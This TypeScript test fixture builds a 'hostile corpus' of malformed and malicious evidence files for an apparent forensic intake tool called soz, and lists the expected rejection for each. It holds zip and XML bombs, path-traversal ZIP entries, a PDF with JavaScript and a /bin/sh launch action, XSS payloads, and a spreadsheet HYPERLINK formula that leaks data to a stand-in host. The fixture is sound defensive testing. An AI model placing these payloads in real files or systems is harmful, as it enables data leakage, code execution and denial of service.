/**
 * Builds the hostile corpus: seized material that is broken, odd or built to hurt the tool. Every
 * file is made here at test time (into `tests/hostile/generated/`, git-ignored) except the
 * encrypted PDFs, which need qpdf and are committed under `tests/hostile/files/` (see SOURCES.md).
 * Everything is fictional; nothing reproduces real content.
 */
import { closeSync, copyFileSync, mkdirSync, openSync, readFileSync, rmSync, truncateSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import JSZip from 'jszip';

/** Where generated files go (git-ignored; recreated on every run). */
export const GENERATED_DIR = new URL('./generated/', import.meta.url).pathname;
/** Committed hostile files that cannot be generated without extra tools. */
export const COMMITTED_DIR = new URL('./files/', import.meta.url).pathname;

const ZIP_DATE = new Date(Date.UTC(2024, 0, 1));
const utf8 = (text: string) => Buffer.from(text, 'utf8');

/** A minimal PDF from object bodies (object n is `objects[n-1]`), with a correct xref table. */
export function minimalPdf(objects: readonly string[], trailerExtra = ''): Buffer {
  let out = '%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** A one-page PDF showing `text` (ASCII) in Helvetica, with extra catalog entries and objects. */
function textPdf(text: string, catalogExtra = '', extraObjects: readonly string[] = []): Buffer {
  const content = `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`;
  return minimalPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...extraObjects,
  ]);
}

/** A DOCX with the given `word/document.xml` body and optional extra parts. */
export async function docx(bodyXml: string, extra: Record<string, string | Uint8Array> = {}): Promise<Buffer> {
  const zip = new JSZip();
  const add = (name: string, data: string | Uint8Array) => zip.file(name, data, { date: ZIP_DATE });
  add('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>');
  add('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>');
  add('word/document.xml', `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${bodyXml}</w:body></w:document>`);
  for (const [name, data] of Object.entries(extra)) add(name, data);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

/** One Word paragraph holding `text` (XML-escaped by the caller). */
export const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

interface RawZipEntry {
  readonly name: string;
  readonly data: Uint8Array;
  /** Unix mode for the external attributes (e.g. 0o120777 for a symbolic link). */
  readonly mode?: number;
  /** Uncompressed size written into both headers instead of the real one (a lying header). */
  readonly claimedSize?: number;
}

/**
 * A ZIP written byte by byte, so entry names and attributes are exactly as given (libraries
 * normalise `../`, absolute paths and backslashes away). Deflated, UTF-8 names, made by Unix.
 */
export function rawZip(entries: readonly RawZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = utf8(entry.name);
    const packed = deflateRawSync(entry.data, { level: 9 });
    const crc = crc32(entry.data);
    const size = entry.claimedSize ?? entry.data.byteLength;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x5821, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.byteLength, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.byteLength, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE((3 << 8) | 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x5821, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.byteLength, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.byteLength, 28);
    central.writeUInt32LE(((entry.mode ?? 0o100644) << 16) >>> 0, 38);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.byteLength + name.byteLength + packed.byteLength;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.byteLength, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

let crcTable: Uint32Array | undefined;
function crc32(bytes: Uint8Array): number {
  if (!crcTable) {
    crcTable = new Uint32Array(256);
    for (let n = 0; n < 256; n++) {
      let c = n;
      for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
      crcTable[n] = c >>> 0;
    }
  }
  let crc = 0xffffffff;
  for (const byte of bytes) crc = crcTable[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

const HTML_PAYLOAD = [
  '<!DOCTYPE html><html><head><title>Листовка</title>',
  '<script>document.title="PWNED";alert(1)</script>',
  '<link rel="stylesheet" href="http://198.51.100.7/evil.css">',
  '</head><body>',
  '<p>Обычный текст листовки.</p>',
  '<img src="http://198.51.100.7/beacon.png" onerror="document.title=\'PWNED\'">',
  '<p><a href="javascript:alert(2)">нажми сюда</a> и <a href="http://198.51.100.7/">сайт</a></p>',
  '<svg onload="alert(3)"><text>svg</text></svg>',
  '<iframe src="http://198.51.100.7/frame"></iframe>',
  '<p onclick="alert(4)">&lt;script&gt;alert(5)&lt;/script&gt; — экранированный текст</p>',
  '</body></html>',
].join('\n');

/** Text of evidence that tries to attack the report and CSV outputs (used by output-safety too). */
export const PAYLOAD_TEXT = [
  'Обычный абзац перед атакой.',
  '<script>document.title="PWNED";alert(1)</script>',
  '<img src="http://198.51.100.7/beacon.png" onerror="document.title=\'PWNED\'">',
  '<a href="javascript:alert(2)">ссылка</a>',
  '=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")',
  '+7 700 000 00 00',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB-leading cell',
  '\u001b[31mred terminal text\u001b[0m and a bidi \u202Eoverride\u202C here',
].join('\n');

/** A Telegram Desktop `result.json` for one chat with `count` messages, built by string joins. */
function telegramExport(count: number): Buffer {
  const head = '{\n "name": "Hostile test chat",\n "type": "personal_chat",\n "id": 4242,\n "messages": [';
  const message = (i: number) =>
    `\n  {"id": ${i + 1}, "type": "message", "date": "2024-01-01T10:00:00", "date_unixtime": "1704103200", "from": "Тест", "from_id": "user1", "text": "Сообщение ${i + 1}", "text_entities": [{"type": "plain", "text": "Сообщение ${i + 1}"}]}`;
  const parts: string[] = [head];
  for (let i = 0; i < count; i++) parts.push((i === 0 ? '' : ',') + message(i));
  parts.push('\n ]\n}\n');
  return utf8(parts.join(''));
}

/** A sparse file of `sparse` bytes starting with a PDF header: size without disk or time. */
export interface Sparse {
  readonly sparse: number;
}

/** What soz must do with a hostile file. */
export type HostileExpectation =
  | { readonly exit: 2; readonly message: RegExp }
  | {
      readonly exit: 0;
      /** Documents in derived/ after `soz analyze`. */
      readonly documents?: number;
      /** Documents `soz add` reports for the file. */
      readonly addedDocuments?: number;
      /** Stop after `soz add` (analysing would take minutes). */
      readonly addOnly?: boolean;
      readonly textIncludes?: readonly string[];
      readonly textExcludes?: readonly string[];
    };

/** One file of the hostile corpus, with the behaviour documented in docs/hostile-input.md. */
export interface HostileCase {
  /** Stable id, also the row key in docs/hostile-input.md. */
  readonly id: string;
  /** File name on disk (may hold newlines, bidi overrides, reserved Windows names). */
  readonly file: string;
  readonly input: string;
  readonly expect: HostileExpectation;
  /** Extra arguments to `soz add`/`soz analyze` (limit flags). */
  readonly flags?: readonly string[];
  /** Adapter id that must be registered for the expectation to hold (chat adapters wired later). */
  readonly needsAdapter?: string;
  /** Expensive to build or run: skipped unless SOZ_HOSTILE_BIG=1 (CI runs it). */
  readonly big?: boolean;
  readonly make: () => Promise<Uint8Array | Sparse> | Uint8Array | Sparse;
}


/** The corpus, in table order. */
export const HOSTILE_CASES: readonly HostileCase[] = [
  // ---- containers: DOCX and ZIP ----
  {
    id: 'docx-bomb',
    file: 'bomb.docx',
    input: 'DOCX whose document.xml inflates 16 MiB from ~16 KiB (ratio ≈ 1000)',
    expect: { exit: 2, message: /bomb\.docx: .*ratio .*--max-compression-ratio/ },
    make: () => docx(para('bomb') + `<w:p><w:r><w:t>${' '.repeat(16 * 1024 ** 2)}</w:t></w:r></w:p>`),
  },
  {
    id: 'docx-lying-size',
    file: 'lying.docx',
    input: 'DOCX whose headers claim document.xml is 600 bytes but it inflates to 8 MiB',
    expect: { exit: 2, message: /lying\.docx: / },
    make: async () => {
      const body = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${para('x')}<!--${'A'.repeat(8 * 1024 ** 2)}--></w:body></w:document>`;
      const template = await JSZip.loadAsync(await docx(para('x')));
      const entries: RawZipEntry[] = [];
      for (const name of ['[Content_Types].xml', '_rels/.rels']) entries.push({ name, data: await template.file(name)!.async('uint8array') });
      entries.push({ name: 'word/document.xml', data: utf8(body), claimedSize: 600 });
      return rawZip(entries);
    },
  },
  {
    id: 'docx-deep-xml',
    file: 'deep.docx',
    input: 'DOCX with XML nested 10,000 elements deep',
    expect: { exit: 2, message: /deep\.docx: .*nests deeper than 512 .*--max-depth/ },
    make: () => docx(`<w:p><w:r>${'<w:x>'.repeat(10_000)}<w:t>deep</w:t>${'</w:x>'.repeat(10_000)}</w:r></w:p>`),
  },
  {
    id: 'docx-remote-refs',
    file: 'remote.docx',
    input: 'DOCX with an external image and hyperlink relationship to http:// (TargetMode="External")',
    expect: { exit: 0, documents: 1, textIncludes: ['Внешние ссылки'] },
    make: () =>
      docx(para('Внешние ссылки'), {
        'word/_rels/document.xml.rels':
          '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://198.51.100.7/track.png" TargetMode="External"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/tpl.dotm" TargetMode="External"/></Relationships>',
      }),
  },
  {
    id: 'legacy-doc',
    file: 'old.doc',
    input: 'legacy Word .doc (OLE header with a WordDocument stream name)',
    expect: { exit: 2, message: /old\.doc: legacy Word \.doc/ },
    make: () => {
      const bytes = Buffer.alloc(4096);
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes);
      Buffer.from('WordDocument', 'utf16le').copy(bytes, 1024);
      return bytes;
    },
  },
  {
    id: 'zip-dotdot',
    file: 'dotdot.zip',
    input: 'ZIP with an entry `../../outside.txt`',
    expect: { exit: 2, message: /dotdot\.zip: entry "\.\.\/\.\.\/outside\.txt" climbs out/ },
    make: () => rawZip([{ name: 'ok.txt', data: utf8('fine') }, { name: '../../outside.txt', data: utf8('escaped') }]),
  },
  {
    id: 'zip-absolute',
    file: 'absolute.zip',
    input: 'ZIP with an entry `/etc/cron.d/evil`',
    expect: { exit: 2, message: /absolute\.zip: entry "\/etc\/cron\.d\/evil" is an absolute path/ },
    make: () => rawZip([{ name: '/etc/cron.d/evil', data: utf8('* * * * * root true') }]),
  },
  {
    id: 'zip-backslash',
    file: 'backslash.zip',
    input: 'ZIP with an entry `..\\..\\evil.txt` (Windows separators)',
    expect: { exit: 2, message: /backslash\.zip: entry .*backslash/ },
    make: () => rawZip([{ name: '..\\..\\evil.txt', data: utf8('escaped') }]),
  },
  {
    id: 'zip-drive',
    file: 'drive.zip',
    input: 'ZIP with an entry `C:/Windows/evil.txt`',
    expect: { exit: 2, message: /drive\.zip: entry .*drive letter/ },
    make: () => rawZip([{ name: 'C:/Windows/evil.txt', data: utf8('escaped') }]),
  },
  {
    id: 'zip-symlink',
    file: 'symlink.zip',
    input: 'ZIP with a symbolic-link entry pointing to /etc/passwd',
    expect: { exit: 2, message: /symlink\.zip: entry "link\.txt" is a symbolic link/ },
    make: () => rawZip([{ name: 'link.txt', data: utf8('/etc/passwd'), mode: 0o120777 }]),
  },
  {
    id: 'zip-bomb',
    file: 'bomb.zip',
    input: 'ZIP with one text entry inflating 64 MiB from ~64 KiB',
    expect: { exit: 2, message: /bomb\.zip: entry "zeros\.txt" unpacks to more than 200 times .*--max-compression-ratio/ },
    make: () => rawZip([{ name: 'zeros.txt', data: Buffer.alloc(64 * 1024 ** 2, 0x20) }]),
  },
  {
    id: 'zip-lying-size',
    file: 'lying.zip',
    input: 'ZIP whose headers claim 100 bytes for an entry that inflates to 16 MiB',
    expect: { exit: 2, message: /lying\.zip: / },
    make: () => rawZip([{ name: 'small.txt', data: Buffer.alloc(16 * 1024 ** 2, 0x61), claimedSize: 100 }]),
  },
  {
    id: 'zip-nested-deep',
    file: 'nested.zip',
    input: 'ZIP inside a ZIP inside a ZIP inside a ZIP (depth 3)',
    expect: { exit: 0, textIncludes: ['nested-too-deep'] },
    make: () => {
      let inner: Uint8Array = rawZip([{ name: 'deepest.txt', data: utf8('самый глубокий текст') }]);
      for (let level = 3; level >= 1; level--) inner = rawZip([{ name: `level${level}.zip`, data: inner }]);
      return inner;
    },
  },
  // ---- PDF ----
  {
    id: 'pdf-encrypted',
    file: 'encrypted.pdf',
    input: 'PDF encrypted with a user password (AES-256, made by qpdf)',
    expect: { exit: 2, message: /encrypted\.pdf: .*password/ },
    make: () => readFileSync(join(COMMITTED_DIR, 'encrypted-user-password.pdf')),
  },
  {
    id: 'pdf-encrypted-empty-password',
    file: 'restricted.pdf',
    input: 'PDF encrypted with an empty user password (owner restrictions only, RC4)',
    expect: { exit: 0, documents: 1, textIncludes: ['Restricted but readable'] },
    make: () => readFileSync(join(COMMITTED_DIR, 'encrypted-empty-password.pdf')),
  },
  {
    id: 'pdf-javascript',
    file: 'javascript.pdf',
    input: 'PDF with a JavaScript /OpenAction (app.alert) and a /Launch action',
    expect: { exit: 0, documents: 1, textIncludes: ['Visible text of a PDF with JavaScript'] },
    make: () =>
      textPdf('Visible text of a PDF with JavaScript', '/OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> ', [
        "<< /Type /Action /S /JavaScript /JS (app.alert\\('PWNED'\\); this.submitForm\\('http://198.51.100.7/'\\);) /Next 7 0 R >>",
        '<< /Type /Action /S /Launch /F (/bin/sh) >>',
      ]),
  },
  {
    id: 'pdf-page-tree-loop',
    file: 'pageloop.pdf',
    input: 'PDF whose page tree contains itself (/Kids [2 0 R] in object 2)',
    expect: { exit: 2, message: /pageloop\.pdf: / },
    make: () => minimalPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  },
  {
    id: 'pdf-page-tree-cycle',
    file: 'pagecycle.pdf',
    input: 'PDF with two page-tree nodes that are each other\'s kids and /Count 1000000',
    expect: { exit: 2, message: /pagecycle\.pdf: / },
    make: () => minimalPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>', '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1000000 >>']),
  },
  {
    id: 'pdf-xref-loop',
    file: 'xrefloop.pdf',
    input: 'PDF whose trailer /Prev points back at its own xref table',
    expect: { exit: 0, documents: 1, textIncludes: ['Looping xref'] },
    make: () => {
      const pdf = textPdf('Looping xref').toString('latin1');
      const xref = /startxref\n(\d+)/.exec(pdf)![1]!;
      return Buffer.from(pdf.replace('/Root 1 0 R ', `/Root 1 0 R /Prev ${xref} `), 'latin1');
    },
  },
  {
    id: 'pdf-truncated',
    file: 'truncated.pdf',
    input: 'PDF cut off after its header',
    expect: { exit: 2, message: /truncated\.pdf: / },
    make: () => textPdf('never seen').subarray(0, 40),
  },
  // ---- text encodings ----
  {
    id: 'invalid-utf8',
    file: 'invalid-utf8.txt',
    input: 'text with invalid UTF-8 (overlong, encoded surrogates, stray continuation bytes, 0xFF)',
    expect: { exit: 0, documents: 1, textIncludes: ['до', 'после'] },
    make: () => Buffer.concat([utf8('Текст до ошибки\n'), Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x80, 0xbf, 0xff, 0xfe, 0x0a]), utf8('и после неё\n')]),
  },
  {
    id: 'mixed-encodings',
    file: 'mixed.txt',
    input: 'one file half UTF-8, half Windows-1251',
    expect: { exit: 0, documents: 1, textIncludes: ['UTF'] },
    make: () => Buffer.concat([utf8('Часть в UTF-8.\n'), Buffer.from('\r\n\xd7\xe0\xf1\xf2\xfc \xe2 cp1251.\r\n', 'latin1')]),
  },
  {
    id: 'utf16-lone-surrogates',
    file: 'surrogates.txt',
    input: 'UTF-16LE text (with BOM) holding a lone high and a lone low surrogate',
    expect: { exit: 0, documents: 1, textIncludes: ['Начало'] },
    make: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Начало \ud800 середина \udfff конец\n', 'utf16le')]),
  },
  {
    id: 'nul-bytes',
    file: 'zeros.txt',
    input: '4 KiB of NUL bytes: kept in custody as an unknown binary, without text',
    expect: { exit: 0, addedDocuments: 1, documents: 1 },
    make: () => Buffer.alloc(4096),
  },
  {
    id: 'empty-file',
    file: 'empty.txt',
    input: 'an empty file (0 bytes)',
    expect: { exit: 0, documents: 1 },
    make: () => Buffer.alloc(0),
  },
  {
    id: 'sparse-2gb',
    file: 'sparse-2g.pdf',
    input: '2 GiB sparse file starting with `%PDF-` (never written: `fs.truncateSync`)',
    expect: { exit: 2, message: /sparse-2g\.pdf: 2147483648 bytes is more than this format can read at once .*--max-in-memory-bytes/ },
    big: true,
    make: () => ({ sparse: 2 * 1024 ** 3 }),
  },
  {
    id: 'sparse-in-memory-limit',
    file: 'sparse-64m.pdf',
    input: '64 MiB sparse file starting with `%PDF-`, added with `--max-in-memory-bytes 1048576`',
    expect: { exit: 2, message: /sparse-64m\.pdf: 67108864 bytes is more than this format can read at once \(limit 1048576\); raise it with --max-in-memory-bytes/ },
    flags: ['--max-in-memory-bytes', '1048576'],
    make: () => ({ sparse: 64 * 1024 ** 2 }),
  },
  // ---- structured exports ----
  {
    id: 'json-deep-array',
    file: 'deep.json',
    input: 'JSON nested 10,000 arrays deep (no chat-export keys)',
    expect: { exit: 0, documents: 1, textIncludes: ['[[[[', ']]]]'] },
    make: () => utf8('['.repeat(10_000) + ']'.repeat(10_000)),
  },
  {
    id: 'telegram-deep',
    file: 'telegram-deep.json',
    input: 'Telegram result.json whose message text is nested 10,000 levels deep',
    expect: { exit: 2, message: /telegram-deep\.json: .*nests deeper than 512 .*--max-depth/ },
    needsAdapter: 'telegram-json',
    make: () => utf8(`{"name":"x","type":"personal_chat","id":1,"messages":[{"id":1,"type":"message","date":"2024-01-01T00:00:00","date_unixtime":"1704067200","from":"a","text":${'['.repeat(10_000)}${']'.repeat(10_000)},"text_entities":[]}]}`),
  },
  {
    id: 'facebook-deep',
    file: 'facebook-deep.json',
    input: 'Messenger JSON with a value nested 10,000 levels deep',
    expect: { exit: 2, message: /facebook-deep\.json: / },
    make: () => utf8(`{"participants":[{"name":"a"},{"name":"b"}],"messages":[{"sender_name":"a","timestamp_ms":1704067200000,"content":"x","x":${'['.repeat(10_000)}${']'.repeat(10_000)}}],"title":"t","thread_path":"inbox/t"}`),
  },
  {
    id: 'telegram-empty',
    file: 'telegram-empty.json',
    input: 'Telegram result.json with an empty message array',
    expect: { exit: 0 },
    needsAdapter: 'telegram-json',
    make: () => telegramExport(0),
  },
  {
    id: 'telegram-1m',
    file: 'telegram-1m.json',
    input: 'Telegram result.json with 1,000,000 messages (~190 MB)',
    expect: { exit: 0, addedDocuments: 118, addOnly: true },
    needsAdapter: 'telegram-json',
    big: true,
    make: () => telegramExport(1_000_000),
  },
  {
    id: 'html-deep',
    file: 'deep.html',
    input: 'HTML with 10,000 nested <div>s',
    expect: { exit: 2, message: /deep\.html: .*--max-depth/ },
    make: () => utf8(`<!DOCTYPE html><html><body>${'<div>'.repeat(10_000)}x${'</div>'.repeat(10_000)}</body></html>`),
  },
  {
    id: 'html-script',
    file: 'script.html',
    input: 'HTML with <script>, onerror=, onload=, javascript: links, remote <img>, <iframe>, stylesheet',
    expect: { exit: 0, documents: 1, textIncludes: ['Обычный текст листовки', 'нажми сюда'], textExcludes: ['document.title="PWNED"'] },
    make: () => utf8(HTML_PAYLOAD),
  },
  {
    id: 'csv-formula',
    file: 'formulas.txt',
    input: 'text whose lines start with =HYPERLINK(…), +, -, @, TAB, and hold ESC and RLO characters',
    expect: { exit: 0, documents: 1, textIncludes: ['=HYPERLINK(', '@SUM(A1:A9)'] },
    make: () => utf8(PAYLOAD_TEXT),
  },
  {
    id: 'huge-line',
    file: 'one-line.txt',
    input: 'a 256 KiB text file with no line break',
    expect: { exit: 0, documents: 1 },
    make: () => Buffer.alloc(256 * 1024, 'слово '),
  },
  {
    id: 'png-image',
    file: 'photo.txt',
    input: 'a PNG image named .txt: taken into custody as an image, without text, with a notice that it needs OCR',
    expect: { exit: 0, addedDocuments: 1, documents: 1 },
    make: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64)]),
  },
  // ---- hostile file names ----
  {
    id: 'name-newline',
    file: 'note\nadded    0000000000000000000000000000000000000000000000000000000000000000  forged.txt',
    input: 'file name with a newline that forges a second "added" line',
    expect: { exit: 0, documents: 1 },
    make: () => utf8('Файл с переводом строки в имени.\n'),
  },
  {
    id: 'name-rtl',
    file: 'invoice\u202Etxt.exe',
    input: 'file name with a right-to-left override (U+202E) hiding its real extension',
    expect: { exit: 0, documents: 1 },
    make: () => utf8('Файл с RLO в имени.\n'),
  },
  {
    id: 'name-escape',
    file: '\u001b[2J\u001b[31mred\u0007.txt',
    input: 'file name with ANSI escape sequences (clear screen, colour) and BEL',
    expect: { exit: 0, documents: 1 },
    make: () => utf8('Файл с ESC в имени.\n'),
  },
  ...['CON', 'NUL', 'COM1', 'aux.txt', 'LPT9.log'].map(
    (name): HostileCase => ({
      id: `name-reserved-${name.toLowerCase().replace(/\..*/, '')}`,
      file: name,
      input: `reserved Windows device name \`${name}\``,
      expect: { exit: 0, documents: 1 },
      make: () => utf8(`Файл с именем ${name}.\n`),
    }),
  ),
];

/**
 * Whether expensive cases run (SOZ_HOSTILE_BIG=1, set by `npm run test:fuzz`): the 2 GiB sparse
 * file costs ~40 s because intake hashes a file before checking its size.
 */
export const RUN_BIG = process.env['SOZ_HOSTILE_BIG'] === '1';

/**
 * Writes one case's file into `dir` (a folder per case, so names never clash) and returns its
 * path. Sparse files are made with `truncate`, so 2 GiB take no disk space and no time.
 */
export async function writeHostileFile(dir: string, hostile: HostileCase): Promise<string> {
  const folder = join(dir, hostile.id);
  rmSync(folder, { recursive: true, force: true });
  mkdirSync(folder, { recursive: true });
  const path = join(folder, hostile.file);
  const bytes = await hostile.make();
  if (!(bytes instanceof Uint8Array)) {
    const fd = openSync(path, 'w');
    writeSync(fd, utf8('%PDF-1.7\n% sparse hostile file\n'));
    closeSync(fd);
    truncateSync(path, bytes.sparse);
  } else {
    writeFileSync(path, bytes);
  }
  return path;
}

/** Copies a committed file (tests that want the raw encrypted PDFs). */
export function committed(name: string, to: string): string {
  copyFileSync(join(COMMITTED_DIR, name), to);
  return to;
}
